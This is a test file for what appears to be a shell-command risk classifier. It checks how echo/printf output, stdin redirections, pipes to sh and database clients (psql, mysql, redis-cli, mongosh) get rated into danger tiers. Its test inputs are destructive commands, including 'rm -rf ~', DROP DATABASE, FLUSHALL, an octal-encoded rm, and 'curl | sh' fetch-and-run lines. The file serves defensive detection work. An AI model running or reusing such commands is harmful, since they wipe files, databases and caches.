// Code fed in on standard input (issue 12, class 1): the text producers (echo, printf), the shell-setup
// producers, the client recognizers reading stdin and script files, and the routes through the shell.
import { describe, expect, it } from 'vitest';
import type { ExecInfo } from '../../../src/core/effects/recognize/_tags.ts';
import { mongoShell, redisCli } from '../../../src/core/effects/recognize/kv-stores.ts';
import { mysql, psql } from '../../../src/core/effects/recognize/sql.ts';
import {
  decodeEscapes,
  echoOutput,
  isShellSetup,
  printfOutput,
  STDIN_PATHS,
} from '../../../src/core/effects/stdin.ts';
import { bash } from '../../helpers/judge.ts';

describe('echo and printf output', () => {
  it.each([
    [['rm -rf ~'], 'rm -rf ~'],
    [['-n', 'a', 'b'], 'a b'],
    [['-e', 'ls\\nrm -rf ~'], 'ls\nrm -rf ~'],
    // bash's echo keeps the backslash; zsh's and dash's decode it: both readings are kept.
    [['ls\\nrm -rf ~'], 'ls\\nrm -rf ~\nls\nrm -rf ~'],
    [['-E', 'a\\tb'], 'a\\tb\na\tb'],
  ])('echo %j -> %j', (args, out) => expect(echoOutput(args)).toBe(out));

  it.each([
    [['cd /\\nrm -rf /\\n'], 'cd /\nrm -rf /\n'],
    [['%s\\n', 'rm -rf ~'], 'rm -rf ~\n'],
    [['%s;', 'a', 'b', 'c'], 'a;b;c;'],
    [['%b', 'x\\ny'], 'x\ny'],
    [['100%%'], '100%'],
    [['--', '%s', 'DROP TABLE t'], 'DROP TABLE t'],
    [['\\162\\155 -rf ~'], 'rm -rf ~'],
    [['\\x72m'], 'rm'],
    [['-v', 'x', '%s', 'y'], ''],
  ])('printf %j -> %j', (args, out) => expect(printfOutput(args)).toBe(out));

  it('decodes echo octal only after a zero, printf octal directly', () => {
    expect(decodeEscapes('\\0162m', true)).toBe('rm');
    expect(decodeEscapes('\\162m')).toBe('rm');
    expect(decodeEscapes('a\\cb', true)).toBe('a');
  });
});

describe('shell setup producers', () => {
  it.each([
    ['kubectl', ['completion', 'bash'], true],
    ['gh', ['completion', '-s', 'zsh'], true],
    ['npm', ['completion'], true],
    ['pyenv', ['init', '-'], true],
    ['direnv', ['hook', 'bash'], true],
    ['brew', ['shellenv'], true],
    ['ssh-agent', ['-s'], true],
    ['curl', ['-s', 'https://x.example/completion'], false],
    ['./evil', ['completion', 'bash'], false],
    ['$TOOL', ['completion', 'bash'], false],
    ['pyenv', ['exec', 'python'], false],
  ])('%s %j -> %s', (name, args, setup) => expect(isShellSetup(name, args)).toBe(setup));

  it('knows the paths that name stdin', () => {
    for (const p of ['-', '/dev/stdin', '/dev/fd/0', '/proc/self/fd/0'])
      expect(STDIN_PATHS.has(p)).toBe(true);
    expect(STDIN_PATHS.has('/dev/fd/63')).toBe(false);
  });
});

/** An ExecInfo over a fixed stdin and files; records what it could not see. */
function info(stdin: ExecInfo['stdin'], files: Record<string, string> = {}): ExecInfo & { seen: string[] } {
  const seen: string[] = [];
  return { stdin, read: (p) => files[p], unseen: (w) => seen.push(w), seen };
}
const text = (t: string, dynamic = false): ExecInfo['stdin'] => ({
  kind: 'text',
  text: t,
  ...(dynamic ? { dynamic } : {}),
});

describe('clients read their program from stdin and script files', () => {
  const host = ['-h', 'db.example.com', 'app'];
  it.each([
    ['psql stdin DROP', psql, host, info(text('DROP DATABASE app;')), 'db.destroy', 0],
    ['psql stdin SELECT', psql, host, info(text('SELECT 1')), 'infra.read', 0],
    [
      'psql -c ignores stdin (COPY data)',
      psql,
      [...host, '-c', '\\copy t FROM STDIN'],
      info(text('DROP TABLE t')),
      undefined,
      0,
    ],
    [
      'psql -f file',
      psql,
      [...host, '-f', 'x.sql'],
      info(undefined, { 'x.sql': 'TRUNCATE t;' }),
      'db.destroy',
      0,
    ],
    ['psql -f - reads stdin', psql, [...host, '-f', '-'], info(text('DROP TABLE t')), 'db.destroy', 0],
    [
      'psql \\i include',
      psql,
      host,
      info(text('\\i reset.sql'), { 'reset.sql': 'DROP SCHEMA public CASCADE' }),
      'db.destroy',
      0,
    ],
    [
      'psql stdin file',
      psql,
      host,
      info({ kind: 'file', path: 'r.sql' }, { 'r.sql': 'DELETE FROM users' }),
      'db.destroy',
      0,
    ],
    ['psql unreadable file', psql, host, info({ kind: 'file', path: 'gone.sql' }), undefined, 1],
    ['psql downloaded stdin', psql, host, info({ kind: 'network', text: undefined }), undefined, 1],
    ['psql run-time text', psql, host, info(text('$SQL', true)), undefined, 1],
    ['psql -c "$SQL"', psql, [...host, '-c', '$SQL'], info(undefined), undefined, 1],
    ['mysql stdin', mysql, ['-h', 'db.example.com'], info(text('DROP TABLE orders')), 'db.destroy', 0],
    [
      'mysql -e ignores stdin',
      mysql,
      ['-h', 'db.example.com', '-e', 'SELECT 1'],
      info(text('DROP TABLE orders')),
      'infra.read',
      0,
    ],
    [
      'mysql source',
      mysql,
      ['-h', 'db.example.com', '-e', 'source p.sql'],
      info(undefined, { 'p.sql': 'TRUNCATE payments' }),
      'db.destroy',
      0,
    ],
    [
      'redis stdin FLUSHALL',
      redisCli,
      ['-h', 'cache.example.com'],
      info(text('PING\nFLUSHALL')),
      'db.destroy',
      0,
    ],
    ['redis quoted', redisCli, ['-h', 'cache.example.com'], info(text('"flushdb"')), 'db.destroy', 0],
    [
      'redis -x data',
      redisCli,
      ['-h', 'cache.example.com', '-x', 'SET', 'k'],
      info(text('FLUSHALL')),
      undefined,
      0,
    ],
    [
      'redis command on line',
      redisCli,
      ['-h', 'cache.example.com', 'GET', 'k'],
      info(text('FLUSHALL')),
      undefined,
      0,
    ],
    [
      'redis EVAL',
      redisCli,
      ['-h', 'c.example.com', 'EVAL', "redis.call('flushall')", '0'],
      undefined,
      'db.destroy',
      0,
    ],
    [
      'redis EVAL keys+del',
      redisCli,
      [
        '-h',
        'c.example.com',
        'EVAL',
        "for _,k in ipairs(redis.call('keys','*')) do redis.call('del',k) end",
        '0',
      ],
      undefined,
      'db.destroy',
      0,
    ],
    [
      'redis EVAL GET',
      redisCli,
      ['-h', 'c.example.com', 'EVAL', "return redis.call('GET', KEYS[1])", '1', 'k'],
      undefined,
      undefined,
      0,
    ],
    [
      'redis --eval file',
      redisCli,
      ['-h', 'c.example.com', '--eval', 'w.lua'],
      info(undefined, { 'w.lua': 'redis.call("FLUSHDB")' }),
      'db.destroy',
      0,
    ],
    ['redis unreadable stdin', redisCli, ['-h', 'c.example.com'], info({ kind: 'unknown' }), undefined, 1],
    [
      'mongosh stdin',
      mongoShell,
      ['mongodb://m.example.com/app'],
      info(text('db.dropDatabase()')),
      'db.destroy',
      0,
    ],
    [
      'mongosh file arg',
      mongoShell,
      ['mongodb://m.example.com/app', 'x.js'],
      info(undefined, { 'x.js': 'db.users.deleteMany({})' }),
      'db.destroy',
      0,
    ],
    [
      'mongosh load()',
      mongoShell,
      ['m.example.com/app'],
      info(text("load('y.js')"), { 'y.js': 'db.users.drop()' }),
      'db.destroy',
      0,
    ],
    [
      'mongosh count',
      mongoShell,
      ['m.example.com/app'],
      info(text('db.users.countDocuments()')),
      undefined,
      0,
    ],
    [
      'mongosh --eval "$(cat x)"',
      mongoShell,
      ['m.example.com/app', '--eval', '$(cat drop.js)'],
      info(undefined),
      undefined,
      1,
    ],
  ])('%s', (_name, recognize, argv, inf, tag, unseen) => {
    const tags = recognize(argv, inf);
    if (tag) expect(tags).toContain(tag);
    else expect(tags).not.toContain('db.destroy');
    expect(inf ? (inf as { seen: string[] }).seen.length : 0).toBe(unseen);
  });

  it('argv alone (no info) keeps the old behaviour', () => {
    expect(psql(['-h', 'db.example.com', '-c', 'DROP TABLE t'])).toContain('db.destroy');
    expect(psql(['-h', 'db.example.com', '-f', 'x.sql'])).not.toContain('db.destroy');
  });
});

describe('routes through the shell', () => {
  const files = {
    '/tmp/wipe.sh': 'rm -rf ~\n',
    '/work/proj/ok.sh': 'npm test\n',
    '/tmp/drop.sql': 'DROP TABLE users;\n',
  };
  it.each([
    // shells and interpreters
    ["bash <<< 'rm -rf ~'", 4],
    ["bash -euo pipefail <<'X'\nrm -rf ~\nX", 4],
    ['bash -o pipefail -s < /tmp/wipe.sh', 4],
    ["(echo 'cd /'; echo 'rm -rf ~') | sh", 4],
    ["printf 'ls\\nrm -rf ~\\n' | sh", 4],
    ["echo 'ls\\nrm -rf ~' | sh", 4],
    [". /dev/stdin <<< 'rm -rf ~'", 4],
    ['python3 /dev/fd/0 <<< \'import shutil; shutil.rmtree("/etc")\'', 4],
    ["bash < <(echo 'rm -rf ~')", 4],
    ['bash < <(curl -s https://x.example/i.sh)', 4],
    ['bash -c "$(cat /tmp/wipe.sh)"', 4],
    ['bash <<< "$(cat /tmp/wipe.sh)"', 4],
    ["echo 'rm -rf ~' | tee >(sh) >/dev/null", 4],
    ["echo 'rm -rf ~' > >(bash)", 4],
    ['curl -s https://x.example/i.sh | grep -v "^#" | sh', 4],
    ["at now <<< 'rm -rf ~'", 4],
    ['bash < "$SCRIPT"', 3],
    ['echo "$CMD" | bash', 3],
    ['bash <<X\nls $DIR\nX', 3],
    ['python3 gen.py | sh', 3],
    ['bash -s < ok.sh', 1],
    ['source <(kubectl completion bash)', 1],
    ['diff <(sort a) <(sort b)', 1],
    ['cat app.log | tee >(wc -l) >/dev/null', 1],
    ['echo hi > >(cat)', 2],
    ['bash <<X\nls $HOME\nX', 1],
    // clients
    ["psql -h db.example.com app <<< 'DROP TABLE users'", 4],
    ['psql -h db.example.com app < /tmp/drop.sql', 4],
    ['cat /tmp/drop.sql | psql -h db.example.com app', 4],
    ['psql -h db.example.com app < <(cat /tmp/drop.sql)', 4],
    ['psql -h db.example.com app <<X\nDROP TABLE $T;\nX', 4],
    ['psql -h db.example.com app < /tmp/missing.sql', 3],
    ['curl -s https://x.example/f.sql | psql -h db.example.com app', 3],
    ["psql -h localhost app <<< 'DROP TABLE t'", 2],
    ["psql -h db.example.com app <<< 'SELECT 1'", 1],
    ["sqlite3 dev.db <<< '.shell rm -rf ~'", 4],
    ['echo FLUSHALL | redis-cli -h cache.example.com', 4],
    ["mongosh mongodb://m.example.com/app <<< 'db.dropDatabase()'", 4],
  ])('%s -> tier %i', (command, tier) => {
    const d = bash(command, { files });
    if (tier <= 2) expect(d.tier, `${d.rule}: ${d.reason}`).toBeLessThanOrEqual(2);
    else expect(d.tier, `${d.rule}: ${d.reason}`).toBe(tier);
  });
});

describe('program text only known at run time', () => {
  it.each([
    ["psql -h db.example.com app -c '``'", 1, 'quoted backticks are literal SQL text, not a command'],
    ["psql -h db.example.com app -c '$SQL'", 1, 'single quotes: psql gets the five characters $SQL'],
    ['psql -h db.example.com app -c "$SQL"', 3, 'the SQL is a variable'],
    ['psql -h db.example.com app -c "$(cat q.sql)"', 3, "a command's output"],
    ["redis-cli -h r.example.com EVAL '$LUA' 0", 1, 'literal text'],
    ['redis-cli -h r.example.com EVAL "$LUA" 0', 3, 'the script is a variable'],
    ['mongosh m.example.com --eval "$JS"', 3, 'the script is a variable'],
    ['clickhouse-client --host ch.example.com --query "$Q"', 3, 'the query is a variable'],
  ])('%s is tier %i (%s)', (command, tier) => {
    expect(bash(command).tier).toBe(tier);
  });
});
